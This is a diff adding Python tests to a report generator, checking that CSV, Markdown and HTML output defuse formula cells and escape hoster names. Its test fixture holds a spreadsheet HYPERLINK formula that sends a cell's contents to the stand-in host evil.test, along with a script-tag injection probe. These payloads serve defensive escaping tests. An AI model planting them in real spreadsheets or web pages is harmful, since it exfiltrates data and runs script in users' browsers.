@@ -224,3 +224,36 @@ def test_alert_to_removal_in_every_format(db) -> None:
     quiet = build_report(db, CONFIG, now=NOW, since="2026-02-01T00:00:00Z")  # nothing alerted
     assert "Alerts to hosters" not in render(quiet, "md")
     assert 'id="alerts-table"' not in render(quiet, "html")
+
+
+HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")<script>alert(1)</script>|*_[x]`'
+
+
+def test_csv_defuses_formula_cells_and_keeps_numbers(db) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run starts with an apostrophe."""
+    db.execute("UPDATE hosters SET name = ? WHERE id = 1", [HOSTILE])
+    db.execute("UPDATE hosters SET name = ? WHERE id = 2", ["@SUM(1+1)"])
+    r = build_report(db, CONFIG, now=NOW)
+    rows = list(csv.reader(io.StringIO(render(r, "csv"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")]
+    assert all(not c.startswith("-") or float(c) < 0 for c in cells)  # numbers stay numbers
+
+
+def test_markdown_escapes_hoster_names(db) -> None:
+    db.execute("UPDATE hosters SET name = ? WHERE id = 1", [HOSTILE])
+    md = render(build_report(db, CONFIG, now=NOW), "md", show_urls=True)
+    assert "<script>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
+    assert "\\|\\*\\_\\[x\\]\\`" in md
+    lines = md.splitlines()
+    first = lines.index(next(x for x in lines if x.startswith("## Per "))) + 2
+    table = lines[first:lines.index("", first)]
+    # the name's | is escaped: every row has as many cells as the header
+    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1
+
+
+def test_html_escapes_hoster_names(db) -> None:
+    db.execute("UPDATE hosters SET name = ? WHERE id = 1", [HOSTILE])
+    html = render(build_report(db, CONFIG, now=NOW), "html")
+    assert "<script>alert(1)</script>" not in html and "alert(1)&lt;/script&gt;" in html
